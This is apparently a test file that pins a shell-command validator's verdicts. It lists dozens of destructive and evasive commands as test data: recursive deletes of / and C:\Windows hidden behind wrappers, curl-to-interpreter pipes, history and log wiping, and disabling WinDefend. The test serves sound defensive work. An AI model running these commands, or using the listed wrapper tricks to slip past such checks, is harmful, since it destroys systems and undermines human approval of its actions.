// The exact verdict for every dangerous corpus line: the rule that blocks it, the part of the line
// it names and the reason shown to the approver (corpus/dangerous-verdicts.json). The corpus test
// checks only that each line is blocked by some rule; this one notices when another rule takes a
// line over or a reason loses its words (issue 36: such mutants survived). A deliberate change
// updates the JSON: the failure lists each line with the verdict it now gets.
import { readFileSync } from 'node:fs';
import { beforeAll, describe, expect, it } from 'vitest';
import { type CommandValidator, createCommandValidator } from './command-validator.ts';
import { DANGEROUS_COMMANDS } from './corpus/index.ts';
import type { TargetOs } from './types.ts';

interface PinnedVerdict {
  readonly os: TargetOs;
  readonly command: string;
  readonly rule: string;
  readonly segment: string;
  readonly reason: string;
}

const PINNED = JSON.parse(readFileSync(new URL('./corpus/dangerous-verdicts.json', import.meta.url), 'utf8')) as PinnedVerdict[];

/** `/{x0,…,x63,etc}`: 65 brace words, /etc the last. */
const PADDED_BRACES = `/{${Array.from({ length: 64 }, (_, index) => `x${index}`).join(',')},etc}`;

/** Lines at a rule's edge (issue 36 survivors): the option that makes sed edit, a shell sudo starts,
 * a size that empties, a quote PowerShell doubles; [os, command, rule or null for allow, segment, reason]. */
const EDGES: readonly [TargetOs, string, string | null, string, string][] = [
  ['linux', 'truncate /etc/passwd', 'critical-file-write', 'truncate /etc/passwd', 'truncate changes /etc/passwd'],
  ['linux', 'truncate -s 0 /etc/passwd', 'truncate-system-file', 'truncate -s 0 /etc/passwd', 'truncate empties or shrinks /etc/passwd'],
  ['linux', 'truncate -s 10M /etc/passwd', 'critical-file-write', 'truncate -s 10M /etc/passwd', 'truncate changes /etc/passwd'],
  [
    'linux',
    'truncate --reference=/dev/null /etc/passwd',
    'critical-file-write',
    'truncate --reference=/dev/null /etc/passwd',
    'truncate changes /etc/passwd',
  ],
  ['linux', 'set +o history', 'history-tampering', 'set +o history', 'set +o history turns history off'],
  ['linux', 'set -o history', null, 'set -o history', ''],
  ['linux', 'set +o vi', null, 'set +o vi', ''],
  ['linux', 'setfacl -m u:bob:rwx /etc/shadow', 'critical-file-write', 'setfacl -m u:bob:rwx /etc/shadow', 'setfacl changes /etc/shadow'],
  [
    'linux',
    'setfacl -R -m u:bob:rwx /etc',
    'permissions-system-path',
    'setfacl -R -m u:bob:rwx /etc',
    'setfacl changes permissions or owner of /etc',
  ],
  ['linux', 'grep -i root /etc/passwd', null, 'grep -i root /etc/passwd', ''],
  ['linux', 'sed -i s/a/b/ /etc/passwd', 'critical-file-write', 'sed -i s/a/b/ /etc/passwd', 'sed -i edits /etc/passwd'],
  ['linux', 'perl -pi -e s/a/b/ /etc/passwd', 'critical-file-write', 'perl -pi -e s/a/b/ /etc/passwd', 'perl -i edits /etc/passwd'],
  ['linux', 'sed -n 1p /etc/passwd', null, 'sed -n 1p /etc/passwd', ''],
  ['linux', 'python3 -V', null, 'python3 -V', ''],
  ['linux', 'python3', null, 'python3', ''],
  ['linux', 'python3 -', null, 'python3 -', ''],
  ['linux', 'python3 script.py', null, 'python3 script.py', ''],
  ['linux', 'python3 -c "import os"', null, 'python3 -c "import os"', ''],
  ['linux', 'sudo -s rm -rf /', 'recursive-delete-system-path', 'rm -rf /', 'rm would delete / (via sudo -s)'],
  ['linux', 'sudo -i rm -rf /', 'recursive-delete-system-path', 'rm -rf /', 'rm would delete / (via sudo -s)'],
  ['linux', 'sudo -s', 'interactive-shell', 'sudo -s', 'sudo -s starts an interactive sh shell (via sudo -s)'],
  [
    'linux',
    'proxychains -f /etc/p.conf rm -rf /',
    'recursive-delete-system-path',
    'proxychains -f /etc/p.conf rm -rf /',
    'rm would delete / (via proxychains)',
  ],
  ['linux', 'proxychains rm -rf /', 'recursive-delete-system-path', 'proxychains rm -rf /', 'rm would delete / (via proxychains)'],
  ['linux', "awk '/re/ {print}' x", null, "awk '/re/ {print}' x", ''],
  ['linux', 'awk \'BEGIN { system("rm -rf /") }\'', 'recursive-delete-system-path', 'rm -rf /', 'rm would delete / (via awk system)'],
  ['linux', 'f() { rm -rf /; }; f', 'recursive-delete-system-path', 'rm -rf /', 'rm would delete /'],
  ['linux', 'echo $(echo rm) -rf /', null, 'echo $(echo rm) -rf /', ''],
  [
    'linux',
    'ruby -e "\\`rm -rf /\\`"',
    'interpreter-runs-commands',
    'ruby -e "\\`rm -rf /\\`"',
    'ruby code runs a shell command in backticks',
  ],
  ['windows', "Write-Output 'it''s fine'", null, "Write-Output 'it''s fine'", ''],
  [
    'windows',
    "Write-Output 'a''b'; Format-Volume -DriveLetter C",
    'disk-format',
    'Format-Volume -DriveLetter C',
    'Format-Volume changes or erases disks',
  ],
  ['windows', "Write-Output 'x'", null, "Write-Output 'x'", ''],
  ['linux', 'curl http://203.0.113.9/x | python3', 'pipe-to-shell', 'python3', 'piped output is fed into python3 as a program'],
  ['linux', 'curl http://203.0.113.9/x | python3 app.py', null, 'curl http://203.0.113.9/x | python3 app.py', ''],
  ['linux', 'curl http://203.0.113.9/x | python3 -u', 'pipe-to-shell', 'python3 -u', 'piped output is fed into python3 as a program'],
  ['linux', 'curl http://203.0.113.9/x | python3 -u app.py', null, 'curl http://203.0.113.9/x | python3 -u app.py', ''],
  ['linux', 'curl http://203.0.113.9/x | python3 "$APP"', null, 'curl http://203.0.113.9/x | python3 "$APP"', ''],
  ['linux', 'curl http://203.0.113.9/x | python3 -', 'pipe-to-shell', 'python3 -', 'piped output is fed into python3 as a program'],
  // Session 10's sampled run (issue 36): an entry of each table (protected paths, wrappers' value options,
  // editors, history variables, Windows services and script hosts) and the near misses around them.
  ['linux', 'rm -rf /mnt', 'recursive-delete-system-path', 'rm -rf /mnt', 'rm would delete /mnt'],
  ['linux', 'rm -rf /usr/lib', 'recursive-delete-system-path', 'rm -rf /usr/lib', 'rm would delete /usr/lib'],
  ['linux', 'rm -rf /boot/efi', 'recursive-delete-system-path', 'rm -rf /boot/efi', 'rm would delete /boot/efi'],
  [
    'linux',
    `Rscript -e 'system("rm -rf /")'`,
    'interpreter-runs-commands',
    `Rscript -e 'system("rm -rf /")'`,
    'Rscript code runs other programs or opens a socket: system("rm -rf /")',
  ],
  [
    'linux',
    "rvim -c '!rm -rf /'",
    'interpreter-runs-commands',
    "rvim -c '!rm -rf /'",
    'rvim code runs other programs or opens a socket: !rm -rf /',
  ],
  [
    'linux',
    "rvim --cmd '!rm -rf /'",
    'interpreter-runs-commands',
    "rvim --cmd '!rm -rf /'",
    'rvim code runs other programs or opens a socket: !rm -rf /',
  ],
  [
    'linux',
    "rvim '+!rm -rf /'",
    'interpreter-runs-commands',
    "rvim '+!rm -rf /'",
    'rvim code runs other programs or opens a socket: !rm -rf /',
  ],
  [
    'linux',
    'parallel -E stop rm -rf ::: /',
    'recursive-delete-system-path',
    'parallel -E stop rm -rf ::: /',
    'rm would delete / (via parallel)',
  ],
  [
    'linux',
    'parallel --timeout 10 rm -rf ::: /',
    'recursive-delete-system-path',
    'parallel --timeout 10 rm -rf ::: /',
    'rm would delete / (via parallel)',
  ],
  [
    'linux',
    'parallel --tmpdir /tmp rm -rf ::: /',
    'recursive-delete-system-path',
    'parallel --tmpdir /tmp rm -rf ::: /',
    'rm would delete / (via parallel)',
  ],
  ['linux', 'sudo --group wheel rm -rf /', 'recursive-delete-system-path', 'sudo --group wheel rm -rf /', 'rm would delete / (via sudo)'],
  [
    'linux',
    'xargs --arg-file list rm -rf /',
    'recursive-delete-system-path',
    'xargs --arg-file list rm -rf /',
    'rm would delete / (via xargs)',
  ],
  ['linux', "script -o 100 -c 'rm -rf /'", 'recursive-delete-system-path', 'rm -rf /', 'rm would delete / (via script -c)'],
  [
    'linux',
    "ssh -m hmac-sha2-256 web1 'rm -rf /'",
    'recursive-delete-system-path',
    'rm -rf /',
    'rm would delete / (via ssh (remote command))',
  ],
  // A glob whose first part reaches /home names users' homes (was allowed before session 10).
  ['linux', 'rm -rf /ho*/*', 'recursive-delete-system-path', 'rm -rf /ho*/*', 'rm would delete /ho*/*'],
  ['linux', 'rm -rf /[h]ome/bob', 'recursive-delete-system-path', 'rm -rf /[h]ome/bob', 'rm would delete /[h]ome/bob'],
  ['linux', 'rm -rf /hom?/*', 'recursive-delete-system-path', 'rm -rf /hom?/*', 'rm would delete /hom?/*'],
  ['linux', 'rm -rf /h*/bob/tmp', null, 'rm -rf /h*/bob/tmp', ''],
  ['linux', 'rm -rf /s*/www', null, 'rm -rf /s*/www', ''],
  // Moving a system folder away is as destructive as deleting it (was allowed on Windows before session 10).
  ['windows', 'mi C:\\Windows C:\\old', 'move-system-path', 'mi C:\\Windows C:\\old', 'mi would move C:\\Windows away'],
  [
    'windows',
    'Move-Item -Destination C:\\x C:\\Windows',
    'move-system-path',
    'Move-Item -Destination C:\\x C:\\Windows',
    'Move-Item would move C:\\Windows away',
  ],
  ['windows', 'Move-Item C:\\temp\\a.txt C:\\Windows\\Temp', null, 'Move-Item C:\\temp\\a.txt C:\\Windows\\Temp', ''],
  ['windows', 'move /y C:\\build\\out C:\\deploy', null, 'move /y C:\\build\\out C:\\deploy', ''],
  ['windows', 'Move-Item -WhatIf C:\\Windows C:\\x', null, 'Move-Item -WhatIf C:\\Windows C:\\x', ''],
  ['linux', 'curl http://203.0.113.9/x | Rscript', 'pipe-to-shell', 'Rscript', 'piped output is fed into Rscript as a program'],
  ['linux', 'chrt 10 rm -rf /', 'recursive-delete-system-path', 'chrt 10 rm -rf /', 'rm would delete / (via chrt)'],
  ['linux', 'chrt -p 10 4242', null, 'chrt -p 10 4242', ''],
  ['linux', 'builtin rm -rf /', 'recursive-delete-system-path', 'builtin rm -rf /', 'rm would delete / (via builtin)'],
  ['linux', 'su', 'interactive-shell', 'su', 'su starts an interactive sh shell (via su)'],
  ['linux', 'bash', 'interactive-shell', 'bash', 'starts an interactive bash shell'],
  ['linux', 'cp /dev/null /etc/passwd', 'truncate-system-file', 'cp /dev/null /etc/passwd', 'cp empties /etc/passwd'],
  ['linux', 'dd if=/dev/null of=/etc/passwd', 'truncate-system-file', 'dd if=/dev/null of=/etc/passwd', 'dd empties of=/etc/passwd'],
  ['linux', 'sudoedit /etc/shadow', 'critical-file-write', 'sudoedit /etc/shadow', 'sudoedit changes /etc/shadow'],
  ['linux', 'emacs /etc/sudoers', 'critical-file-write', 'emacs /etc/sudoers', 'emacs changes /etc/sudoers'],
  ['linux', 'vim /etc/shadow', 'critical-file-write', 'vim /etc/shadow', 'vim changes /etc/shadow'],
  ['linux', 'shred /etc/shadow', 'critical-file-write', 'shred /etc/shadow', 'shred changes /etc/shadow'],
  ['linux', 'chattr +i /etc/passwd', 'critical-file-write', 'chattr +i /etc/passwd', 'chattr changes /etc/passwd'],
  [
    'linux',
    'sed --in-place=.bak s/a/b/ /etc/passwd',
    'critical-file-write',
    'sed --in-place=.bak s/a/b/ /etc/passwd',
    'sed -i edits /etc/passwd',
  ],
  ['linux', 'sed -n /root-id/p /etc/passwd', null, 'sed -n /root-id/p /etc/passwd', ''],
  [
    'linux',
    'HISTFILE=/dev/null bash -c uptime',
    'history-tampering',
    'HISTFILE=/dev/null bash -c uptime',
    'HISTFILE=/dev/null turns history off',
  ],
  ['linux', 'HISTFILE= uptime', 'history-tampering', 'HISTFILE= uptime', 'HISTFILE= turns history off'],
  ['linux', 'HISTFILE=/tmp/h uptime', null, 'HISTFILE=/tmp/h uptime', ''],
  ['linux', 'EDITOR= uptime', null, 'EDITOR= uptime', ''],
  ['linux', 'HISTSIZE=0 uptime', 'history-tampering', 'HISTSIZE=0 uptime', 'HISTSIZE=0 turns history off'],
  ['linux', 'd=$(mktemp -d); rm -rf $d', null, 'd=$(mktemp -d); rm -rf $d', ''],
  ['linux', 'd=$(mktemp -d); rm -rf $d/build', null, 'd=$(mktemp -d); rm -rf $d/build', ''],
  [
    'linux',
    'd=$(mktemp -d); rm -rf $d/../..',
    'recursive-delete-system-path',
    'rm -rf $d/../..',
    'recursive rm of $d/../.., which is only known at run time',
  ],
  ['linux', 'rm -rf $d', 'recursive-delete-system-path', 'rm -rf $d', 'recursive rm of $d, which is only known at run time'],
  ['linux', 'rm ~/.bash_history', 'history-tampering', 'rm ~/.bash_history', 'rm wipes ~/.bash_history'],
  ['linux', 'cd; rm -rf *', 'recursive-delete-system-path', 'rm -rf *', 'rm would delete ~/*'],
  ['linux', 'cd ~; rm -rf *', 'recursive-delete-system-path', 'rm -rf *', 'rm would delete ~/*'],
  [
    'linux',
    'echo "unterminated',
    'unparseable',
    'echo "unterminated',
    'the command has a shell syntax error, so what would run cannot be known',
  ],
  ['linux', 'ls (', 'unparseable', 'ls (', 'the command has a shell syntax error, so what would run cannot be known'],
  [
    'windows',
    'Resize-Partition -DriveLetter C -Size 1GB',
    'disk-format',
    'Resize-Partition -DriveLetter C -Size 1GB',
    'Resize-Partition changes or erases disks',
  ],
  ['windows', 'Stop-Service WinDefend', 'defense-evasion', 'Stop-Service WinDefend', 'Stop-Service stops or disables WinDefend'],
  ['windows', 'Remove-Service WinDefend', 'defense-evasion', 'Remove-Service WinDefend', 'Remove-Service stops or disables WinDefend'],
  ['windows', 'Suspend-Service EventLog', 'defense-evasion', 'Suspend-Service EventLog', 'Suspend-Service stops or disables EventLog'],
  ['windows', 'Stop-Service W3SVC', null, 'Stop-Service W3SVC', ''],
  [
    'windows',
    'cscript //e:vbscript evil.txt',
    'lolbas-download-execute',
    'cscript //e:vbscript evil.txt',
    'cscript is a known way to run code that evades review',
  ],
  ['windows', 'cscript //nologo report.vbs', null, 'cscript //nologo report.vbs', ''],
  [
    'windows',
    'powershell -ConfigurationName x -Command "Format-Volume -DriveLetter C"',
    'disk-format',
    'Format-Volume -DriveLetter C',
    'Format-Volume changes or erases disks',
  ],
  ['windows', 'powershell -File x.ps1 -Command Format-Volume', null, 'powershell -File x.ps1 -Command Format-Volume', ''],
  ['windows', 'powershell -f x.ps1 -Command Format-Volume', null, 'powershell -f x.ps1 -Command Format-Volume', ''],
  [
    'windows',
    'Remove-Item -Recurse C:\\Windows\\\\',
    'recursive-delete-system-path',
    'Remove-Item -Recurse C:\\Windows\\\\',
    'Remove-Item would delete C:\\Windows\\\\',
  ],
  [
    'windows',
    'Remove-Item -Recurse C:\\Windows\\*.*',
    'recursive-delete-system-path',
    'Remove-Item -Recurse C:\\Windows\\*.*',
    'Remove-Item would delete C:\\Windows\\*.*',
  ],
  // chrt -p changes a running process's policy and runs nothing (chrt says "invalid PID argument").
  ['linux', 'chrt -p 10 4242', null, 'chrt -p 10 4242', ''],
  ['linux', 'chrt -p 10 rm -rf /', null, 'chrt -p 10 rm -rf /', ''],
  ['linux', 'chrt -f 10 rm -rf /etc', 'recursive-delete-system-path', 'chrt -f 10 rm -rf /etc', 'rm would delete /etc (via chrt)'],
  // bash's `cd ""` stays in the current directory: here /, so `etc` is /etc.
  ['linux', 'cd /; cd ""; rm -rf etc', 'recursive-delete-system-path', 'rm -rf etc', 'rm would delete /etc'],
  ['linux', 'cd /tmp; cd ""; rm -rf build', null, 'cd /tmp; cd ""; rm -rf build', ''],
  ['linux', 'rm /var/log//wtmp', 'history-tampering', 'rm /var/log//wtmp', 'rm wipes /var/log//wtmp'],
  ['linux', 'shred -u /var/log/./btmp', 'history-tampering', 'shred -u /var/log/./btmp', 'shred wipes /var/log/./btmp'],
  ['linux', 'rm -f ~/.bash_history/', 'history-tampering', 'rm -f ~/.bash_history/', 'rm wipes ~/.bash_history/'],
  [
    'linux',
    'd=$(mktemp -d); rm -rf ${d:-/}',
    'recursive-delete-system-path',
    'rm -rf ${d:-/}',
    'recursive rm of ${d:-/}, which is only known at run time',
  ],
  [
    'linux',
    'd=$(mktemp -d); rm -rf $d/..',
    'recursive-delete-system-path',
    'rm -rf $d/..',
    'recursive rm of $d/.., which is only known at run time',
  ],
  ['linux', 'd=$(mktemp -d); rm -rf "$d/build"', null, 'd=$(mktemp -d); rm -rf "$d/build"', ''],
  // script's -o takes a value, here `-c` (script: "failed to parse output limit size"), so nothing runs.
  ['linux', 'script -o -c "rm -rf /" typescript', null, 'script -o -c "rm -rf /" typescript', ''],
  ['linux', 'script -q -o 10M -c "rm -rf /" typescript', 'recursive-delete-system-path', 'rm -rf /', 'rm would delete / (via script -c)'],
  // -File names a script file, not a command: PowerShell finds no file called Stop-Computer.
  ['windows', 'powershell -File Stop-Computer', null, 'powershell -File Stop-Computer', ''],
  ['windows', 'powershell -f Stop-Computer', null, 'powershell -f Stop-Computer', ''],
  // A delete run once per file under a protected path (issue 36, both allowed before): find -exec and its
  // kin put each start point where `{}` was, forfiles' file placeholders stand for every file under /p.
  // /var/log and a home stay allowed for find (routine clean-ups); a read, /tmp or D:\\data stay allowed.
  [
    'linux',
    'find /etc -execdir rm {} \\;',
    'find-exec-delete-system-path',
    'find /etc -execdir rm {} \\;',
    'rm runs on every file under /etc (via find -execdir)',
  ],
  [
    'linux',
    'find /usr/local/lib -name "*.so" -okdir rm {} \\;',
    'find-exec-delete-system-path',
    'find /usr/local/lib -name "*.so" -okdir rm {} \\;',
    'rm runs on every file under /usr/local/lib (via find -okdir)',
  ],
  [
    'linux',
    'find /boot -ok unlink {} \\;',
    'find-exec-delete-system-path',
    'find /boot -ok unlink {} \\;',
    'unlink runs on every file under /boot (via find -ok)',
  ],
  [
    'linux',
    'find /etc -exec sudo rm -f {} +',
    'find-exec-delete-system-path',
    'find /etc -exec sudo rm -f {} +',
    'rm runs on every file under /etc (via find -exec → sudo)',
  ],
  [
    'linux',
    'cd /usr && find lib -exec rm {} +',
    'find-exec-delete-system-path',
    'find lib -exec rm {} +',
    'rm runs on every file under /usr/lib (via find -exec)',
  ],
  [
    'linux',
    'find /etc/ -type f -exec unlink {} \\;',
    'find-exec-delete-system-path',
    'find /etc/ -type f -exec unlink {} \\;',
    'unlink runs on every file under /etc/ (via find -exec)',
  ],
  [
    'linux',
    'find / -maxdepth 1 -exec shred {} +',
    'find-exec-delete-system-path',
    'find / -maxdepth 1 -exec shred {} +',
    'shred runs on every file under / (via find -exec)',
  ],
  [
    'linux',
    'find /etc/$dir -exec rm {} \\;',
    'find-exec-delete-system-path',
    'find /etc/$dir -exec rm {} \\;',
    'rm runs on every file under /etc/$dir (via find -exec)',
  ],
  ['linux', 'shred /etc/*', 'recursive-delete-system-path', 'shred /etc/*', 'shred would destroy the files of /etc/*'],
  ['linux', 'unlink /usr/lib/*', 'recursive-delete-system-path', 'unlink /usr/lib/*', 'unlink would destroy the files of /usr/lib/*'],
  ['linux', 'find /tmp -exec rm {} \\;', null, 'find /tmp -exec rm {} \\;', ''],
  ['linux', 'find /etc -name x -exec cat {} \\;', null, 'find /etc -name x -exec cat {} \\;', ''],
  ['linux', 'find ~ -name "*.pyc" -exec rm {} \\;', null, 'find ~ -name "*.pyc" -exec rm {} \\;', ''],
  ['linux', 'find /etc -name x -exec rm /tmp/lock \\;', null, 'find /etc -name x -exec rm /tmp/lock \\;', ''],
  ['linux', 'find /srv/app -exec rm {} +', null, 'find /srv/app -exec rm {} +', ''],
  ['linux', 'cd /usr && find /tmp -exec rm -f {} \\;', null, 'cd /usr && find /tmp -exec rm -f {} \\;', ''],
  ['linux', 'sudo rm -f /etc', null, 'sudo rm -f /etc', ''],
  ['linux', 'shred -n 3 /tmp/*', null, 'shred -n 3 /tmp/*', ''],
  ['linux', 'find /etc -exec rmdir {} \\;', null, 'find /etc -exec rmdir {} \\;', ''],
  [
    'windows',
    'forfiles /p C:\\Windows\\ /s /m *.log /c "cmd /c del @file"',
    'recursive-delete-system-path',
    'del C:\\Windows\\*',
    'del would delete C:\\Windows\\*',
  ],
  [
    'windows',
    'forfiles -p C:\\Windows -c "cmd /c del @relpath"',
    'recursive-delete-system-path',
    'del C:\\Windows\\*',
    'del would delete C:\\Windows\\*',
  ],
  [
    'windows',
    'forfiles /P C:\\Windows /C "cmd /c del @PATH"',
    'recursive-delete-system-path',
    'del C:\\Windows\\*',
    'del would delete C:\\Windows\\*',
  ],
  [
    'windows',
    'forfiles /p "C:\\Program Files" /s /c "cmd /c del 0x22@path0x22"',
    'recursive-delete-system-path',
    'del "C:\\Program Files\\*"',
    'del would delete C:\\Program Files\\*',
  ],
  [
    'windows',
    'forfiles /p "C:\\Program Files" /s /c "cmd /c del 0x22@fname.@ext0x22"',
    'recursive-delete-system-path',
    'del "C:\\Program Files\\*"',
    'del would delete C:\\Program Files\\*',
  ],
  [
    'windows',
    'forfiles /p C:\\Windows /c "cmd /c del @fname.@ext"',
    'recursive-delete-system-path',
    'del C:\\Windows\\*',
    'del would delete C:\\Windows\\*',
  ],
  [
    'windows',
    'forfiles /p C:\\Windows /s /c "powershell Remove-Item @path"',
    'recursive-delete-system-path',
    'Remove-Item C:\\Windows\\*',
    'Remove-Item would delete C:\\Windows\\*',
  ],
  [
    'windows',
    'forfiles /p %windir% /s /c "cmd /c del @path"',
    'recursive-delete-system-path',
    'del %windir%\\*',
    'del would delete C:\\Windows\\*',
  ],
  [
    'windows',
    'forfiles /m x-p /p C:\\Windows /c "cmd /c del @path"',
    'recursive-delete-system-path',
    'del C:\\Windows\\*',
    'del would delete C:\\Windows\\*',
  ],
  [
    'windows',
    'forfiles /m -p*.log /p C:\\Windows /c "cmd /c del @path"',
    'recursive-delete-system-path',
    'del C:\\Windows\\*',
    'del would delete C:\\Windows\\*',
  ],
  ['windows', 'forfiles /p D:\\data /c "cmd /c del @path"', null, 'forfiles /p D:\\data /c "cmd /c del @path"', ''],
  ['windows', 'forfiles /p C:\\Windows /s /c "cmd /c type @path"', null, 'forfiles /p C:\\Windows /s /c "cmd /c type @path"', ''],
  ['windows', 'forfiles /c "cmd /c del @path"', null, 'forfiles /c "cmd /c del @path"', ''],
  ['windows', 'forfiles /c "cmd /c del @path" /p', null, 'forfiles /c "cmd /c del @path" /p', ''],
  [
    'windows',
    'forfiles /p C:\\Windows\\Temp /s /d -7 /c "cmd /c del @path"',
    null,
    'forfiles /p C:\\Windows\\Temp /s /d -7 /c "cmd /c del @path"',
    '',
  ],
  [
    'windows',
    'forfiles /p "D:\\my data" /s /c "cmd /c del 0x22@path0x22"',
    null,
    'forfiles /p "D:\\my data" /s /c "cmd /c del 0x22@path0x22"',
    '',
  ],
  [
    'windows',
    'forfiles /p D:\\data-c /c "cmd /c rd /s /q C:\\Windows"',
    'recursive-delete-system-path',
    'rd /s /q C:\\Windows',
    'rd would delete C:\\Windows',
  ],
  [
    'windows',
    'forfiles /p C:\\logs /m -c*.bak /c "cmd /c rd /s /q C:\\Windows"',
    'recursive-delete-system-path',
    'rd /s /q C:\\Windows',
    'rd would delete C:\\Windows',
  ],
  [
    'windows',
    'Remove-Item -Recurse C:\\Windows\\*\\',
    'recursive-delete-system-path',
    'Remove-Item -Recurse C:\\Windows\\*\\',
    'Remove-Item would delete C:\\Windows\\*\\',
  ],
  [
    'windows',
    'Remove-Item -Recurse C:\\Windows\\*\\*',
    'recursive-delete-system-path',
    'Remove-Item -Recurse C:\\Windows\\*\\*',
    'Remove-Item would delete C:\\Windows\\*\\*',
  ],
  [
    'windows',
    'powershell -Command "Remove-Item -Recurse \'C:\\Windows\'"',
    'recursive-delete-system-path',
    "Remove-Item -Recurse 'C:\\Windows'",
    'Remove-Item would delete C:\\Windows',
  ],
  ['windows', 'Remove-Item -Recurse "C:\\Windows\\Temp\\*"', null, 'Remove-Item -Recurse "C:\\Windows\\Temp\\*"', ''],
  // /dev/zero or /dev/urandom over a system file destroys it as /dev/null does; a swap file in /tmp is fine.
  ['linux', 'dd if=/dev/zero of=/usr/bin/ls', 'truncate-system-file', 'dd if=/dev/zero of=/usr/bin/ls', 'dd overwrites of=/usr/bin/ls'],
  [
    'linux',
    'cp /dev/urandom /usr/lib/os-release',
    'truncate-system-file',
    'cp /dev/urandom /usr/lib/os-release',
    'cp overwrites /usr/lib/os-release',
  ],
  ['linux', 'dd if=/dev/null of=/usr/bin/ls', 'truncate-system-file', 'dd if=/dev/null of=/usr/bin/ls', 'dd empties of=/usr/bin/ls'],
  ['linux', 'dd if=/dev/zero of=/tmp/swapfile bs=1M count=1024', null, 'dd if=/dev/zero of=/tmp/swapfile bs=1M count=1024', ''],
  // sudo passes VAR=value words before the command as its environment; the command comes after them.
  ['linux', 'sudo LANG=C rm -rf /', 'recursive-delete-system-path', 'sudo LANG=C rm -rf /', 'rm would delete / (via sudo)'],
  ['linux', 'sudo -i LANG=C', 'interactive-shell', 'sudo -i LANG=C', 'sudo -s starts an interactive sh shell (via sudo -s)'],
  // Brace expansion stops at 64 words; a 65th word (here /etc) is not read, so the pattern is refused.
  ['linux', `rm -rf ${PADDED_BRACES}`, 'recursive-delete-system-path', `rm -rf ${PADDED_BRACES}`, `rm would delete ${PADDED_BRACES}`],
  ['linux', 'rm -rf /tmp/build-{1,2,3,4,5,6,7,8,9,10}', null, 'rm -rf /tmp/build-{1,2,3,4,5,6,7,8,9,10}', ''],
  // A recursive Windows delete of a path known only at run time is refused; a plain one is not.
  [
    'windows',
    'Remove-Item -Recurse -Force $target',
    'recursive-delete-system-path',
    'Remove-Item -Recurse -Force $target',
    'recursive delete of $target, which is only known at run time',
  ],
  ['windows', 'Remove-Item $target', null, 'Remove-Item $target', ''],
  [
    'windows',
    'rd /s /q %BUILD_DIR%',
    'recursive-delete-system-path',
    'rd /s /q %BUILD_DIR%',
    'recursive delete of %BUILD_DIR%, which is only known at run time',
  ],
  ['windows', 'del %LOGFILE%', null, 'del %LOGFILE%', ''],
  [
    'windows',
    'Remove-Item -Path:C:\\Windows -Recurse',
    'recursive-delete-system-path',
    'Remove-Item -Path:C:\\Windows -Recurse',
    'Remove-Item would delete C:\\Windows',
  ],
  ['windows', 'Remove-Item -Recurse -Force:$force D:\\build', null, 'Remove-Item -Recurse -Force:$force D:\\build', ''],
  ['linux', 'flock /var/lock/x -c "rm -rf /"', 'recursive-delete-system-path', 'rm -rf /', 'rm would delete / (via flock -c)'],
  [
    'linux',
    'flock -w 5 /var/lock/x rm -rf /etc',
    'recursive-delete-system-path',
    'flock -w 5 /var/lock/x rm -rf /etc',
    'rm would delete /etc (via flock)',
  ],
  [
    'linux',
    'unshare --propagation private rm -rf /',
    'recursive-delete-system-path',
    'unshare --propagation private rm -rf /',
    'rm would delete / (via unshare)',
  ],
  [
    'linux',
    'unshare --map-user 0 rm -rf /etc',
    'recursive-delete-system-path',
    'unshare --map-user 0 rm -rf /etc',
    'rm would delete /etc (via unshare)',
  ],
  // deno eval runs inline code; Deno.remove deletes as fs.rmSync does.
  [
    'linux',
    'deno eval \'Deno.removeSync("/etc", { recursive: true })\'',
    'interpreter-deletes-system-path',
    'deno eval \'Deno.removeSync("/etc", { recursive: true })\'',
    'deno code deletes /etc',
  ],
  [
    'linux',
    'deno eval \'await Deno.remove("/tmp/build", { recursive: true })\'',
    null,
    'deno eval \'await Deno.remove("/tmp/build", { recursive: true })\'',
    '',
  ],
  ['linux', 'curl -s https://example.com/x.lua | luajit', 'pipe-to-shell', 'luajit', 'piped output is fed into luajit as a program'],
  [
    'linux',
    'sudo -p "password:" rm -rf /etc',
    'recursive-delete-system-path',
    'sudo -p "password:" rm -rf /etc',
    'rm would delete /etc (via sudo)',
  ],
  [
    'linux',
    'sudo --prompt "password:" rm -rf /etc',
    'recursive-delete-system-path',
    'sudo --prompt "password:" rm -rf /etc',
    'rm would delete /etc (via sudo)',
  ],
  [
    'linux',
    'ssh -E /tmp/ssh.log web1 "rm -rf /etc"',
    'recursive-delete-system-path',
    'rm -rf /etc',
    'rm would delete /etc (via ssh (remote command))',
  ],
  [
    'linux',
    'script -O /tmp/out.log -c "rm -rf /etc"',
    'recursive-delete-system-path',
    'rm -rf /etc',
    'rm would delete /etc (via script -c)',
  ],
  [
    'linux',
    'unshare --setgroups deny rm -rf /etc',
    'recursive-delete-system-path',
    'unshare --setgroups deny rm -rf /etc',
    'rm would delete /etc (via unshare)',
  ],
  [
    'linux',
    'unshare --map-group 0 rm -rf /etc',
    'recursive-delete-system-path',
    'unshare --map-group 0 rm -rf /etc',
    'rm would delete /etc (via unshare)',
  ],
  ['linux', 'unshare -S 0 rm -rf /etc', 'recursive-delete-system-path', 'unshare -S 0 rm -rf /etc', 'rm would delete /etc (via unshare)'],
  ['linux', 'unshare -G 0 rm -rf /etc', 'recursive-delete-system-path', 'unshare -G 0 rm -rf /etc', 'rm would delete /etc (via unshare)'],
  [
    'linux',
    'unshare --wd /srv rm -rf /etc',
    'recursive-delete-system-path',
    'unshare --wd /srv rm -rf /etc',
    'rm would delete /etc (via unshare)',
  ],
  [
    'linux',
    'unshare --root /srv/jail rm -rf /etc',
    'recursive-delete-system-path',
    'unshare --root /srv/jail rm -rf /etc',
    'rm would delete /etc (via unshare)',
  ],
  ['linux', 'install /dev/null /usr/bin/sudo', 'truncate-system-file', 'install /dev/null /usr/bin/sudo', 'install empties /usr/bin/sudo'],
  ['linux', 'rm -rf /{build,cache}', null, 'rm -rf /{build,cache}', ''],
  [
    'windows',
    'powershell -NoProfile -Command "Stop-Computer -Force"',
    'system-power',
    'Stop-Computer -Force',
    'Stop-Computer stops the host',
  ],
  // nsenter's value options (a pid, ids, directories) come before the command it runs.
  [
    'linux',
    'nsenter -t 1 -m rm -rf /etc',
    'recursive-delete-system-path',
    'nsenter -t 1 -m rm -rf /etc',
    'rm would delete /etc (via nsenter)',
  ],
  [
    'linux',
    'nsenter --target 1 -m rm -rf /etc',
    'recursive-delete-system-path',
    'nsenter --target 1 -m rm -rf /etc',
    'rm would delete /etc (via nsenter)',
  ],
  [
    'linux',
    'nsenter -S 0 -m rm -rf /etc',
    'recursive-delete-system-path',
    'nsenter -S 0 -m rm -rf /etc',
    'rm would delete /etc (via nsenter)',
  ],
  [
    'linux',
    'nsenter --setuid 0 -m rm -rf /etc',
    'recursive-delete-system-path',
    'nsenter --setuid 0 -m rm -rf /etc',
